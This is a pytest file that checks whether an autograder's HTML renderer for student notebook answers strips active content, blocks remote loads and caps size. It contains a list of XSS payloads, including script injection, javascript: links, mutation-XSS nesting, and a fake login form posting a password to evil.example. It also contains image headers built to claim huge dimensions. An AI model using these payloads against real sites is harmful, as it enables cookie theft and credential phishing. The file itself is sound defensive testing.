"""Written answers shown to staff: whatever a student wrote, the HTML has nothing active in it (read back with
html.parser), requests nothing from another site, and is bounded in size."""

from __future__ import annotations

import json
import struct

import pytest

from autograder.written import Answer, WrittenQuestion, answers, from_master
from lti_service.written.render import (
    INTERACTIVE,
    MAX_ANSWER_MARKDOWN,
    MAX_CELL_TEXT,
    REMOTE_IMAGE,
    SVG_IMAGE,
    answer_html,
    notebook_answer_html,
    prompt_html,
)
from tests.lti_service.written_pages import assert_inert, output_cell, written
from tests.written_corpus.notebooks import (
    PS88,
    PS88_WRITTEN,
    b64,
    code,
    dump,
    image_output,
    md,
    notebook,
    png,
    png_claiming,
    ps88_submission,
    raw,
)


def one_question(prompt: str) -> list[WrittenQuestion]:
    """The written question of a one-question master notebook."""
    return from_master(dump(notebook([raw("# BEGIN QUESTION\nname: q1\nmanual: true"), md(prompt)])))


HOSTILE_MARKDOWN = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" JaVaScRiPt:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    '<iframe src="https://evil.example/"></iframe>',
    '<svg><script>alert(1)</script><circle r="1" onload="alert(2)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<style>body { display: none }</style><p style="position:fixed;inset:0">cover</p>',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="/staff/delete-everything">a link to the tool itself</a>',
    '<img src="/logout">',
    '<div id="csrf_token" class="x" name="y">clobber</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<p><img src="https://tracker.example/pixel.png?who=grader"></p>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
]


@pytest.mark.parametrize("payload", HOSTILE_MARKDOWN)
def test_hostile_markdown_renders_inert(payload):
    assert_inert(answer_html(written(md(f"My answer.\n\n{payload}\n\nThe end."))))
    assert_inert(prompt_html(payload))


def test_all_of_it_at_once_in_one_cell_and_as_html_outputs():
    everything = "\n\n".join(HOSTILE_MARKDOWN)
    html_outputs = [{"output_type": "display_data", "data": {"text/html": p}} for p in HOSTILE_MARKDOWN]
    markdown_outputs = [{"output_type": "display_data", "data": {"text/markdown": p}} for p in HOSTILE_MARKDOWN]
    page = answer_html(written(md(everything), output_cell(*html_outputs, *markdown_outputs)))
    elements = assert_inert(page)
    assert "alert" not in " ".join(str(a) for _, a in elements.found)


def test_safe_markup_survives():
    page = answer_html(written(md("**Bold**, *it*, `code`, [a link](https://example.com/x?a=1&b=2)\n\n"
                                  "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n<sub>2</sub>")))  # fmt: skip
    elements = assert_inert(page)
    assert {"strong", "em", "code", "a", "table", "td", "li", "sub"} <= {tag for tag, _ in elements.found}
    assert elements.of("a") == [{"href": "https://example.com/x?a=1&b=2", "rel": "noopener noreferrer nofollow"}]
    assert '<div class="answer-cell answer-markdown">' in page


def test_a_remote_image_is_not_loaded_and_says_so():
    page = answer_html(written(md('![plot](https://tracker.example/p.png)\n\n<img src="//tracker.example/q.png">')))
    elements = assert_inert(page)
    assert elements.of("img") == []
    assert page.count(REMOTE_IMAGE) == 2 and "tracker.example" not in page


def test_an_svg_output_is_never_markup_nor_an_image_but_a_note():
    """Not markup (it would run), nor an image (drawing it can cost the grader's browser any amount of work:
    test_written_render_bounds.py)."""
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
           '<foreignObject><iframe src="https://evil.example"/></foreignObject><circle r="4"/></svg>')  # fmt: skip
    page = answer_html(written(output_cell({"output_type": "display_data", "data": {"image/svg+xml": svg}})))
    assert assert_inert(page).of("img") == [] and SVG_IMAGE in page
    assert "<svg" not in page and "onload" not in page and "alert" not in page


def test_an_html_output_with_style_and_form_keeps_its_table_only():
    frame = (
        '<style scoped>.dataframe td { color: red }</style><table border="1" class="dataframe">'
        "<tr><th>votes</th></tr><tr><td>81.3</td></tr></table>"
        '<form action="/x" method="post"><input type="hidden" name="t" value="1"><button>Go</button></form>'
    )
    page = answer_html(written(output_cell({"output_type": "execute_result", "data": {"text/html": frame}})))
    elements = assert_inert(page)
    assert [tag for tag, _ in elements.found if tag in ("table", "th", "td")] == ["table", "th", "td"]
    assert "color: red" not in page and "81.3" in page


def test_interactive_outputs_are_a_note():
    widget = {"output_type": "display_data", "data": {"application/vnd.jupyter.widget-view+json": "{}",
                                                      "text/plain": "IntSlider(value=3)"}}  # fmt: skip
    script = {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}}
    page = answer_html(written(output_cell(widget, script)))
    assert_inert(page)
    assert page.count(INTERACTIVE) == 2 and "alert(1)" not in page and "IntSlider" not in page


def test_a_small_png_output_is_inlined_and_the_code_escaped():
    image = png(5, 4)
    page = answer_html(written(output_cell(image_output(image), source="if a < b and c > d: plot()")))
    [img] = assert_inert(page).of("img")
    assert img["src"] == f"data:image/png;base64,{b64(image)}"
    assert "<pre><code>if a &lt; b and c &gt; d: plot()</code></pre>" in page
    assert page.startswith('<div class="answer-cell answer-code">') and '<div class="answer-output"><img' in page


def test_ansi_colour_codes_are_stripped_from_a_traceback():
    traceback = "\x1b[0;31mNameError\x1b[0m: name \x1b[1;32m'q'\x1b[0m is not defined\x1b]8;;x\x07"
    error = {"output_type": "error", "ename": "NameError", "evalue": "name 'q' is not defined", "traceback": traceback}
    stream = {"output_type": "stream", "name": "stderr", "text": "\x1b[33mwarning\x1b[0m <b>"}
    page = answer_html(written(output_cell(error, stream)))
    assert "<pre>NameError: name 'q' is not defined</pre>" in page
    assert "<pre>warning &lt;b&gt;</pre>" in page and "\x1b" not in page


def test_a_10_mb_markdown_cell_is_cut_and_says_how_much():
    page = answer_html(written(md("word " * (2 << 20))))
    assert len(page) < 2_500_000
    assert "9.8 MB more not shown; download the notebook to see all of it" in page


def test_a_cut_made_when_the_answer_was_read_is_counted_too():
    nb = notebook([md("<!-- BEGIN QUESTION -->\n\nWhy?"), md("x" * (10 << 20)), md("<!-- END QUESTION -->")])
    page = answer_html(answers(dump(nb), one_question("Why?"))["q1"])
    assert len(page) < 2_500_000 and "9.8 MB more not shown" in page


def test_an_answers_html_is_bounded_over_its_cells():
    page = answer_html(written(*[md("many words " * 15_000) for _ in range(50)]))
    assert len(page) < 2_500_000 and "more cells not shown: the answer is too long" in page


def test_a_cells_outputs_are_bounded_too():
    stream = {"output_type": "stream", "name": "stdout", "text": "<" * (MAX_CELL_TEXT - 1)}
    page = answer_html(written(output_cell(*[stream] * 50)))
    assert len(page) < 2_500_000 and "more outputs not shown" in page


def test_markdown_past_the_answers_markdown_budget_is_shown_as_text():
    cells = [md("x" * (MAX_CELL_TEXT - 1)) for _ in range(MAX_ANSWER_MARKDOWN // MAX_CELL_TEXT + 2)]
    page = answer_html(written(md("*one*"), *cells))
    assert "<em>one</em>" in page and page.count("<p>xxxx") == MAX_ANSWER_MARKDOWN // MAX_CELL_TEXT
    assert page.count("<pre>xxxx") == 2


def test_a_20_mb_png_is_not_inlined_and_says_so():
    big = b"\x89PNG\r\n\x1a\n" + b"\0" * (15 << 20)
    direct = answer_html(written(output_cell(image_output(big))))
    assert assert_inert(direct).of("img") == [] and "An image of 15.0 MB not shown (over 4.0 MB)" in direct
    nb = notebook([md("<!-- BEGIN QUESTION -->\n\nPlot."), code("plot()", [image_output(big)])])
    read = answer_html(answers(dump(nb), one_question("Plot."))["q1"])
    assert assert_inert(read).of("img") == [] and "An image of 15.0 MB not shown (over 4.0 MB)" in read


def test_a_png_whose_header_claims_50000_by_50000_is_not_inlined():
    page = answer_html(written(output_cell(image_output(png_claiming(50_000, 50_000)))))
    assert assert_inert(page).of("img") == []
    assert "50000×50000 pixels not shown (over 40 megapixels)" in page


@pytest.mark.parametrize(
    ("mime", "data", "size"),
    [
        ("image/gif", b"GIF89a" + struct.pack("<HH", 60_000, 60_000) + b"\0" * 20, "60000×60000"),
        ("image/jpeg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08" + struct.pack(">HH", 9000, 9000) + b"\0" * 9,
         "9000×9000"),
        ("image/webp", b"RIFF\0\0\0\0WEBPVP8X" + b"\0" * 8 + (8999).to_bytes(3, "little") * 2, "9000×9000"),
    ],
)  # fmt: skip
def test_huge_dimensions_are_read_from_gif_jpeg_and_webp_headers(mime, data, size):
    page = answer_html(written(output_cell(image_output(data, mime))))
    assert assert_inert(page).of("img") == [] and f"{size} pixels not shown" in page


def test_an_image_that_is_not_what_it_says_is_not_inlined():
    html_as_png = b"<html><script>alert(1)</script></html>"
    gif_as_png = image_output(b"GIF89a\x01\x00\x01\x00", "image/png")
    page = answer_html(written(output_cell(image_output(html_as_png), gif_as_png)))
    assert assert_inert(page).of("img") == [] and page.count("not a valid PNG") == 2
    damaged = answer_html(written(md('<img src="data:image/png;base64,AAA">')))
    assert assert_inert(damaged).of("img") == [] and "damaged" in damaged


def test_inlined_images_are_bounded_per_answer():
    three_mb = png_claiming(100, 100) + b"\0" * (3 << 20)
    page = answer_html(written(output_cell(*[image_output(three_mb) for _ in range(4)])))
    assert len(assert_inert(page).of("img")) == 2
    assert page.count("the answer&#x27;s images are over 8.0 MB") == 2


def test_an_image_pasted_into_a_markdown_cell_is_shown():
    image = png(3, 3)
    cell = md("Here is my sketch: ![sketch.png](attachment:sketch.png) ![gone](attachment:missing.png)")
    cell["attachments"] = {"sketch.png": {"image/png": b64(image)}}
    [img] = assert_inert(answer_html(written(cell))).of("img")
    assert img == {"src": f"data:image/png;base64,{b64(image)}", "alt": "sketch.png"}


def test_missing_and_blank_answers_say_so():
    assert "has no answer to this question" in answer_html(Answer("q1", (), "x", False))
    moved = answer_html(Answer("q1", ({"cell_type": "markdown", "source": "My answer, below."},), "x", False))
    assert "deleted this question&#x27;s marker cell" in moved and "My answer, below." in moved
    handed_out = notebook([md("<!-- BEGIN QUESTION -->\n\nWhy?"), md("_Type your answer here, replacing this text._")])
    assert "Nothing written" in answer_html(answers(dump(handed_out), one_question("Why?"))["q1"])


def test_the_course_notebooks_answers_are_shown():
    """PS 88's lab (tests/written_corpus): every written answer, as a student wrote it, in the page."""
    submission, _ = ps88_submission()
    master = from_master((PS88 / "master.ipynb").read_bytes())
    found = answers(submission, master)
    for name in PS88_WRITTEN:
        page = answer_html(found[name])
        elements = assert_inert(page)
        if found[name].cells[0]["cell_type"] == "markdown":
            assert f"My answer to {name}: the pivotal voter\nmatters <em>less</em> as n grows.</p>" in page
        else:
            assert f"<pre><code>simtable.hist('sims20', bins=range(21))  # {name}</code></pre>" in page
            assert [img["src"] for img in elements.of("img")] == [f"data:image/png;base64,{b64(png(3, 2))}"]
            assert f"<pre>{name}</pre>" in page
    for question in master:
        assert_inert(prompt_html(question.prompt))
    assert "<strong>Question 3.3. Compare this to the graph where $p=.5$</strong>" in prompt_html(master[3].prompt)


def _two_question_notebook(second_prompt: str) -> bytes:
    def markdown(text: str, tags: tuple[str, ...] = ()) -> dict:
        return {"cell_type": "markdown", "metadata": {"tags": list(tags)}, "source": text}

    cells = [
        markdown("<!-- BEGIN QUESTION -->\n\n**Q1.** Explain."),
        markdown("First answer.", ("otter_answer_cell",)),
        markdown(f"<!-- END QUESTION -->\n\n<!-- BEGIN QUESTION -->\n\n{second_prompt}"),
        markdown("Second answer.", ("otter_answer_cell",)),
        markdown("<!-- END QUESTION -->"),
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def test_a_questions_answer_is_read_among_all_the_written_questions():
    """The student edited the second prompt, so it is matched by position among the questions: reading the
    notebook with the second question alone (as the grading pages did) finds no answer to show."""
    questions = [WrittenQuestion("q1", 1.0, "**Q1.** Explain.", ()), WrittenQuestion("q2", 1.0, "**Q2.** Why?", ())]
    notebook = _two_question_notebook("**Q2.** Why? (I changed this prompt)")
    shown = notebook_answer_html(notebook, "q2", questions)
    assert "Second answer." in shown and "First answer." not in shown
    assert "First answer." in notebook_answer_html(notebook, "q1", questions)


def test_a_notebook_that_cannot_be_read_says_so_without_markup_of_its_own():
    shown = notebook_answer_html(b"[" * 200_000, "q1", [WrittenQuestion("q1", 1.0, "<b>x</b>", ())])
    assert shown.startswith("<p class='note'>This answer cannot be shown: ") and shown.count("<") == 2
